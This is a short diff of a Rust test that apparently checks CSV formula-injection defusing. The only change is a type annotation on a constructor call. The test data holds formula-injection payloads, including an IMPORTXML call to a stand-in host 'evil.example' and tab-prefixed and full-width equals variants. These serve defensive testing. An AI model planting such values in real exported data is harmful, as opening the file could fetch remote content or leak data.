@@ -234,7 +234,7 @@ fn every_csv_column_is_defused() {
         stage.name = " =IMPORTXML(\"http://evil.example\",\"//a\")".into();
     }
     let assessment = assess(&policy, &case, &calendar, d(TODAY)).unwrap();
-    let mut row = Row::new(&case, Ok(&assessment));
+    let mut row = Row::new::<redress_core::engine::EngineError>(&case, Ok(&assessment));
     assert!(row.stage.contains("IMPORTXML"), "the stage's name reaches the row: {row:?}");
     row.next_due_what = "\t=1+1".into();
     row.problem = Some("\u{ff1d}1+1".into());
